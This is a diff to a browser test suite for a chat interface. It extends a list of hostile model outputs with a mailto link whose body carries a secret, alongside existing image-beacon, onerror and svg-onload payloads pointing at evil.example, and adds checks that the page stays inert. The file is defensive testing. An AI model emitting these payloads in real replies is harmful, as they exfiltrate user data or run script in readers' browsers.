@@ -24,6 +24,9 @@ const SCREENS: Readonly<Record<string, BrowserContextOptions>> = {
   },
 };
 
+/** A word of code that has its colours. */
+const COLOURED = '.code-block span[style*="--shiki-"]';
+
 /** What a model could say to a page that believes it. */
 const HOSTILE = [
   '<img src="https://evil.example/a.png" onerror="document.title=1">',
@@ -32,6 +35,8 @@ const HOSTILE = [
   '![beacon](https://evil.example/b.png?said=secret)',
   '![inline](data:image/svg+xml,<svg/onload=alert(1)>)',
   '<iframe src="https://evil.example/c"></iframe>',
+  '[mail](mailto:d@evil.example?body=secret)',
+  'me@evil.example',
 ].join(' ');
 
 describe('every state of the page, in a browser', () => {
@@ -66,7 +71,7 @@ describe('every state of the page, in a browser', () => {
     query: string,
     use: (chat: ChatPage, context: BrowserContext) => Promise<void>,
   ): Promise<void> {
-    const context = await browser.newContext(SCREENS[screen] ?? {});
+    const context = await browser.newContext({ ...SCREENS[screen], reducedMotion: 'reduce' });
     const url = new URL(query, demo.link);
     url.hash = new URLSearchParams({ token: client.token }).toString();
     try {
@@ -97,9 +102,11 @@ describe('every state of the page, in a browser', () => {
         await look('waiting');
         gate.allow(60);
         await page.getByText('let rest').waitFor();
+        await page.locator(COLOURED).first().waitFor();
         await look('streaming');
         gate.open();
         await chat.settles();
+        await page.locator(COLOURED).filter({ hasText: 'yield' }).last().waitFor();
         await look('code');
         await page.locator('.reasoning summary').click();
         await look('reasoning');
@@ -107,6 +114,7 @@ describe('every state of the page, in a browser', () => {
         await chat.send('What is the weather in Bern?');
         await page.getByText('cloudy in Bern.').waitFor();
         await page.locator('.tool-call summary').click();
+        await page.getByRole('region', { name: 'Output' }).scrollIntoViewIfNeeded();
         await look('tool');
         await chat.send('Please book a table for two at eight');
         await page.getByRole('button', { name: 'Approve' }).waitFor();
@@ -149,11 +157,16 @@ describe('every state of the page, in a browser', () => {
         await look('file');
 
         await chat.showList();
+        await page
+          .getByRole('navigation')
+          .getByRole('button', { name: 'New', exact: true })
+          .waitFor();
         await look('list');
         const item = 'Actions for Show me how to read';
         await page.getByRole('navigation').getByRole('button', { name: item }).click();
         await look('menu');
         await page.getByRole('menuitem', { name: 'Rename' }).click();
+        await page.locator('dialog.rename[open]').waitFor();
         await look('rename');
         await page.getByLabel('Title').fill('Streams');
         await page.keyboard.press('Enter');
@@ -253,7 +266,10 @@ describe('every state of the page, in a browser', () => {
         for (const link of await reply.getByRole('link').all()) {
           expect(await link.getAttribute('href')).toMatch(/^https?:/);
         }
+        expect(await reply.innerText()).toContain('mail me@evil.example');
         expect(await chat.page.title()).toBe('Conversations');
+        const lookups = chat.page.locator('meta[http-equiv="x-dns-prefetch-control"]');
+        expect(await lookups.getAttribute('content')).toBe('off');
         expect(new Set(asked)).toEqual(new Set([new URL(demo.link ?? '').host]));
         await chat.screenshot('hostile');
       });
